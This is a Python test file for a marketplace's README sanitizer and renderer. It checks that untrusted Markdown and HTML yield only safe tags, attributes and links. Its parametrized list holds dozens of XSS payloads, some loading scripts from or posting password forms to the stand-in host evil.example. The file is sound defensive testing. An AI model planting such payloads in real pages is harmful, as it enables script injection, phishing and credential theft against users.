"""What strangers write into a README, and what is left of it on a page of ours."""

import re
from urllib.parse import unquote

import pytest
from tests.console.html import parse

from connectory.marketplace.links import Place
from connectory.marketplace.readme import plain, readme, sanitized
from connectory.marketplace.rendering import rendered
from connectory.marketplace.rewriting import TAGS

PLACE = Place(url="https://github.com/acme/tax", commit="c" * 40, folder="")
FILES = f"https://github.com/acme/tax/blob/{'c' * 40}"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' style='position:fixed'>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](mailto:a@b.de)",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<template><script>alert(1)</script></template>",
    "<video src=https://evil.example/x autoplay></video><audio src=x>",
    "<div class='message' id='main' role='alert' hx-get='/x' sse-connect='/y'>x</div>",
    "<table><tr><td><table><tr><td><img src=x onerror=x></table></table>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>',
    '[x](https://ok.example/ "\\"><script>alert(1)</script>")',
    "[<script>alert(1)</script>]: https://ok.example\n[x][<script>alert(1)</script>]",
    "<b/onclick=alert(1)>x",
    "\x00<scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_it_runs_or_loads(text: str) -> None:
    made = readme(text, PLACE)
    assert "<!--" not in made
    for element in parse(made).find_all():
        assert element.tag in TAGS, made
        assert set(element.attributes) <= {"href", "rel", "title", "id", "class"}, made
        assert element.get("class") in {"", "odd"}
        if "href" in element.attributes:
            assert element["href"].startswith(("https://", "http://", "#readme-")), made
            assert element["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", HOSTILE)
def test_sanitizing_again_changes_nothing(text: str) -> None:
    made = readme(text, PLACE)
    assert sanitized(made) == made


def test_a_usual_readme_is_readable() -> None:
    made = readme(
        "# Tax *connector*\n\nSome ~~old~~ **text**.\n\n1. one\n2. two\n\n"
        "| Key | For |\n|---|---|\n| A | `b` |\n\n```sh\nnpm i\n```\n\n> said\n",
        PLACE,
    )
    root = parse(made)
    assert root.find("h3").text == "Tax connector"
    assert [one.text for one in root.find_all("li")] == ["one", "two"]
    assert [one.text for one in root.find_all("th", "td")] == ["Key", "For", "A", "b"]
    known = {one.tag for one in root.find_all()}
    assert known >= {"em", "s", "strong", "ol", "table", "pre", "blockquote"}
    assert root.find("pre").text == "npm i"


def test_headings_follow_the_page_and_skip_no_level() -> None:
    made = readme("# A\n#### B\n## C\n<h1>D</h1>\n\n###### E\n", PLACE)
    assert re.findall(r"<h(\d) id=\"readme-(\w)", made) == [
        ("3", "a"), ("4", "b"), ("4", "c"), ("3", "d"), ("4", "e"),
    ]  # fmt: skip


def test_headings_can_be_linked_to_and_clash_with_nothing() -> None:
    made = readme("# Set up\n## Set up\n# Über *uns*\n[1](#set-up) [2](#Über-uns)", PLACE)
    root = parse(made)
    names = [one["id"] for one in root.find_all("h3", "h4")]
    assert names == ["readme-set-up", "readme-set-up-1", "readme-über-uns"]
    links = [unquote(one["href"]) for one in root.find_all("a")]
    assert links == ["#readme-set-up", "#readme-über-uns"]


def test_links_lead_into_the_web_or_to_the_files_of_the_commit() -> None:
    place = Place(url=PLACE.url, commit=PLACE.commit, folder="docs")
    made = readme(
        "[web](https://a.example/?q=1&x=2) [file](guide.md#start) [root](/LICENSE) "
        "[up](../service/index.js) [out](../../etc/passwd) [space](a%20b.md) [q](x.md?raw=1)",
        place,
    )
    assert [one["href"] for one in parse(made).find_all("a")] == [
        "https://a.example/?q=1&x=2",
        f"{FILES}/docs/guide.md#start",
        f"{FILES}/LICENSE",
        f"{FILES}/service/index.js",
        f"{FILES}/docs/a%20b.md",
        f"{FILES}/docs/x.md",
    ]
    assert "out" in made


def test_without_a_public_repository_files_are_no_links() -> None:
    made = readme("[file](guide.md) ![shot](shot.png) [web](https://a.example)", Place())
    assert [one.text for one in parse(made).find_all("a")] == ["web"]
    assert "file" in made
    assert "shot" in made


def test_images_become_links() -> None:
    made = readme(
        "![Shot](docs/shot.png) <img src='https://x.example/b.svg'>\n\n"
        "[![build](https://ci.example/b.svg)](https://ci.example/)",
        PLACE,
    )
    assert [(one.text, one["href"]) for one in parse(made).find_all("a")] == [
        ("Shot (image)", f"{FILES}/docs/shot.png"),
        ("image", "https://x.example/b.svg"),
        ("build", "https://ci.example/"),
    ]


def test_characters_that_hide_are_named_but_emoji_stay() -> None:
    made = readme("a\u202eb c\u200bd `x\u2066y` 👩\u200d🚀", PLACE)
    assert [one.text for one in parse(made).find_all("b", class_="odd")] == [
        "U+202E", "U+200B", "U+2066",
    ]  # fmt: skip
    assert "👩\u200d🚀" in made
    assert "\u202e" not in made


def test_a_bare_address_is_a_link_but_no_name_of_a_file() -> None:
    made = readme("See https://a.example/x, README.md and node.js.", PLACE)
    assert [one["href"] for one in parse(made).find_all("a")] == ["https://a.example/x"]


def test_endless_nesting_ends() -> None:
    for text in ("<div>" * 20_000, "<blockquote>" * 20_000, "<b><i>" * 10_000):
        made = readme(f"{text}end", PLACE)
        assert made.count("<") < 200
        assert "end" in made
    assert readme(">" * 20_000, PLACE).count("<") < 100


def test_repeated_references_do_not_multiply_a_text() -> None:
    text = f"[a]: https://x.example/{'y' * 1_900}\n\n" + "[a] " * 2_000
    assert readme(text, PLACE).startswith("<pre>[a]: https://x.example/")


def test_plain_text_stays_as_it_is() -> None:
    made = plain("# no *Markdown* <script>\n\tx & \u202ey")
    assert parse(made).find("pre").text == "# no *Markdown* <script> x & U+202E y"
    assert len(plain("\x01" * 40_000)) < 100


def test_what_takes_too_long_or_too_much_is_shown_as_plain_text() -> None:
    assert rendered("# Hello", PLACE) == '<h3 id="readme-hello">Hello</h3>\n'
    # each of these opens a comment that the rest of the text is searched for
    endless = "<!--" * 130_000
    assert rendered(endless, PLACE, seconds=1).startswith("<pre>&lt;!--&lt;!--")


def test_a_long_one_is_rendered() -> None:
    text = "# Title\n\nSome *text* with `code`.\n\n- a\n- b\n\n" * 2_000
    made = rendered(text, PLACE, seconds=100)
    assert made.count("<li>a</li>") == 2_000
